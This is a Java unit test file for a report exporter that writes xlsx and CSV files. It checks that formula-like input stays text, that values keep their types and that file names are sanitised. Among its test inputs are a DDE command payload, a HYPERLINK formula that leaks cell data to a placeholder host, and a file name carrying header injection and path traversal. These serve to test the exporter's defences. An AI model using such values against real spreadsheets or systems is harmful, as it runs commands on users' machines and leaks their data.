package be.draaiboek.document;

import static org.assertj.core.api.Assertions.assertThat;

import be.draaiboek.document.Rapport.Antwoord;
import be.draaiboek.document.Rapport.Dimensie;
import be.draaiboek.document.Rapport.Feit;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.List;
import java.util.OptionalDouble;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What goes into a file comes out of it, with its type, and never as a formula. */
class DocumentTest {

    private static final Instant WHEN = Instant.parse("2026-11-25T11:30:00Z");
    private static final int ANSWER = 6;
    private static final int SCORE = 7;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+32 9 123 45 67",
                "- een lijstje",
                "@SUM(A1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\0=1+1",
                "  =1+1",
                "\u200B=1+1",
                "\uFEFF=1+1",
                "\uFF1D1+1",
                "=HYPERLINK(\"https://elders.example/?x=\"&A1;\"klik\")",
                "=cmd|' /C calc'!A0"
            })
    void whatBeginsLikeAFormulaIsNone(String typed) {
        Rapport report = report(typed, answer(Waarde.of(typed), typed));
        XSSFWorkbook book = Werkmap.xlsx(xlsx(report));
        int literal = 0;
        for (Sheet sheet : book) {
            for (var row : sheet) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
                    if (cell.getCellType() == CellType.STRING && Veilig.alsFormule(cell.getStringCellValue())) {
                        assertThat(cell.getCellStyle().getQuotePrefixed())
                                .as(cell.getAddress() + " stays text when somebody edits it")
                                .isTrue();
                        literal++;
                    }
                }
            }
        }
        // The bestuur, the answer, its row, column, explanation, minority's view and who recorded it.
        assertThat(literal).isEqualTo(7);
        assertThat(Werkmap.csv(csv(report)).getFirst())
                .allSatisfy((name, shown) -> assertThat(Veilig.alsFormule(shown))
                        .as(name + ": " + shown)
                        .isFalse())
                .containsEntry("Antwoord", "'" + Veilig.schoon(typed));
    }

    @Test
    void whatDoesNotStaysAsItWasTyped() {
        for (String typed : List.of("1 = 1", "a-b", "info@voorbeeld.be", "5 % meer", "'s Avonds", "€ 12", "“=1”")) {
            Rapport report = report("Proefdam", answer(Waarde.of(typed), ""));
            assertThat(Werkmap.csv(csv(report)).getFirst()).containsEntry("Antwoord", typed);
            Cell cell =
                    Werkmap.xlsx(xlsx(report)).getSheet("Antwoorden").getRow(1).getCell(ANSWER);
            assertThat(cell.getStringCellValue()).isEqualTo(typed);
            assertThat(cell.getCellStyle().getQuotePrefixed()).isFalse();
        }
    }

    @Test
    void longTextEmojiBidiAndLinesSurvive() {
        String typed = "Eerste; \"tweede\"\r\nderde 👩‍👩‍👧 \u202Bשלום\u202C é\n" + "lang ".repeat(3_990);
        Rapport report = report("Proefdam", answer(Waarde.of(typed), ""));
        String expected = typed.replace("\r\n", "\n");
        assertThat(Werkmap.csv(csv(report)).getFirst()).containsEntry("Antwoord", expected);
        assertThat(Werkmap.xlsx(xlsx(report))
                        .getSheet("Antwoorden")
                        .getRow(1)
                        .getCell(ANSWER)
                        .getStringCellValue())
                .isEqualTo(expected);
    }

    @Test
    void whatExcelCanNotHoldIsCutWithAMarkAndWholeInTheCsv() {
        // 20,000 characters, of which each takes two places in Excel.
        String typed = "x" + "👍".repeat(19_999);
        Rapport report = report("Proefdam", answer(Waarde.of(typed), ""));
        String cut = Werkmap.xlsx(xlsx(report))
                .getSheet("Antwoorden")
                .getRow(1)
                .getCell(ANSWER)
                .getStringCellValue();
        assertThat(cut).hasSizeLessThanOrEqualTo(32_767).startsWith("x👍").endsWith(Xlsx.CUT);
        String kept = cut.substring(0, cut.length() - Xlsx.CUT.length());
        assertThat(typed).startsWith(kept);
        assertThat(Character.isHighSurrogate(kept.charAt(kept.length() - 1))).isFalse();
        assertThat(Werkmap.csv(csv(report)).getFirst()).containsEntry("Antwoord", typed);
    }

    @Test
    void numbersAreNumbersAndDatesDates() {
        Rapport report = report(
                "Proefdam",
                answer(new Waarde.Bedrag(12_500), ""),
                answer(new Waarde.Procent(40), ""),
                answer(new Waarde.Dag(LocalDate.of(2027, 3, 31)), ""),
                answer(new Waarde.Getal(2027), ""));
        Sheet sheet = Werkmap.xlsx(xlsx(report)).getSheet("Antwoorden");
        assertThat(sheet.getRow(1).getCell(ANSWER).getNumericCellValue()).isEqualTo(12_500);
        assertThat(sheet.getRow(2).getCell(ANSWER).getNumericCellValue()).isEqualTo(0.4);
        assertThat(DateUtil.isCellDateFormatted(sheet.getRow(3).getCell(ANSWER)))
                .isTrue();
        assertThat(sheet.getRow(3).getCell(ANSWER).getLocalDateTimeCellValue())
                .isEqualTo(LocalDateTime.of(2027, 3, 31, 0, 0));
        assertThat(sheet.getRow(1).getCell(11).getLocalDateTimeCellValue())
                .as("in Brussels' time")
                .isEqualTo(LocalDateTime.of(2026, 11, 25, 12, 30));
        assertThat(Werkmap.regels(sheet))
                .extracting(line -> line.get("Antwoord"))
                .containsExactly("€ 12,500", "40%", "31/03/2027", "2027");
        assertThat(Werkmap.csv(csv(report)))
                .extracting(line -> line.get("Antwoord"))
                .containsExactly("12500", "40%", "2027-03-31", "2027");
        assertThat(Werkmap.csv(csv(report)).getFirst()).containsEntry("Vastgelegd op", "2026-11-25 12:30");
    }

    @Test
    void aScoreThatIsNotThereIsEmptyAndNeverZero() {
        Rapport report = new Rapport(
                "Proefdam",
                LocalDate.of(2026, 11, 25),
                null,
                List.of(),
                List.of(
                        scored(OptionalDouble.empty()),
                        scored(OptionalDouble.of(0)),
                        scored(OptionalDouble.of(2.0 / 3))),
                List.of(
                        new Dimensie("B.4.1 Strategie", OptionalDouble.empty(), "", 1, 4, 3, 1, "voorlopig"),
                        new Dimensie("B.4.2", OptionalDouble.of(62.4), "goed op weg", 4, 4, 3, 4, "afgesproken")));
        XSSFWorkbook book = Werkmap.xlsx(xlsx(report));
        Sheet answers = book.getSheet("Antwoorden");
        assertThat(answers.getRow(1).getCell(SCORE)).isNull();
        assertThat(answers.getRow(2).getCell(SCORE).getNumericCellValue()).isZero();
        assertThat(answers.getRow(3).getCell(SCORE).getNumericCellValue()).isEqualTo(2.0 / 3);
        assertThat(Werkmap.csv(csv(report)))
                .extracting(line -> line.get("Score (0 tot 1)"))
                .containsExactly("", "0", "0,67");
        assertThat(book.getSheet("Scores").getRow(1).getCell(1)).isNull();
        assertThat(Werkmap.regels(book.getSheet("Scores")).getLast())
                .containsEntry("Score (op 100)", "62")
                .containsEntry("Antwoorden met een score", "4");
    }

    @Test
    void theHeadStaysAndFilters() {
        XSSFWorkbook book = Werkmap.xlsx(xlsx(report("Proefdam", answer(Waarde.of("ja"), ""))));
        assertThat(book).extracting(Sheet::getSheetName).containsExactly("Scores", "Over dit bestand", "Antwoorden");
        var sheet = book.getSheet("Antwoorden");
        assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
        assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
        assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:N2");
        assertThat(sheet.getColumnWidth(ANSWER)).isGreaterThan(50 * 256);
        assertThat(sheet.getRow(1).getCell(ANSWER).getCellStyle().getWrapText()).isTrue();
    }

    @Test
    void whereNothingWasAgreedTheFileSaysSo() {
        Rapport empty = report("Proefdam");
        XSSFWorkbook book = Werkmap.xlsx(xlsx(empty));
        assertThat(book.getSheet("Antwoorden").getRow(1).getCell(0).getStringCellValue())
                .isEqualTo("Er is nog niets afgesproken of samen geschreven.");
        assertThat(new String(csv(empty), StandardCharsets.UTF_8))
                .endsWith("\r\nEr is nog niets afgesproken of samen geschreven.\r\n");
    }

    @Test
    void aFileNameIsPlainAsciiWithTheBestuurAndTheDay() {
        assertThat(Bestandsnaam.of(report("Sint-Gillis-Waas"), "csv"))
                .isEqualTo("draaiboek-sint-gillis-waas-2026-11-25.csv");
        assertThat(Bestandsnaam.of(report("=Béa & \"Cö\"\r\nSet-Cookie: x/../y"), "csv"))
                .isEqualTo("draaiboek-bea-co-set-cookie-x-y-2026-11-25.csv");
        assertThat(Bestandsnaam.of(report("東京"), "csv")).isEqualTo("draaiboek-2026-11-25.csv");
        assertThat(Bestandsnaam.of(report("x".repeat(300)), "csv")).hasSizeLessThan(80);
    }

    private static Rapport report(String name, Antwoord... answers) {
        return new Rapport(
                name,
                LocalDate.of(2026, 11, 25),
                null,
                List.of(new Feit("Bestuur", Waarde.of(name))),
                List.of(answers),
                List.of());
    }

    private static Antwoord answer(Waarde value, String beside) {
        return new Antwoord(
                "B Bestudeer de context",
                "B.4.1",
                3,
                "Een vraag",
                beside,
                beside,
                value,
                OptionalDouble.empty(),
                beside,
                "afgesproken",
                beside,
                WHEN,
                beside,
                false);
    }

    private static Antwoord scored(OptionalDouble score) {
        return new Antwoord(
                "B", "B.4.1", 1, "Vraag", "", "", Waarde.of("ja"), score, "", "afgesproken", null, null, "", true);
    }

    private static byte[] xlsx(Rapport report) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            Xlsx.write(report, "", out);
        } catch (IOException problem) {
            throw new UncheckedIOException(problem);
        }
        return out.toByteArray();
    }

    private static byte[] csv(Rapport report) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            Csv.write(report, out);
        } catch (IOException problem) {
            throw new UncheckedIOException(problem);
        }
        return out.toByteArray();
    }
}
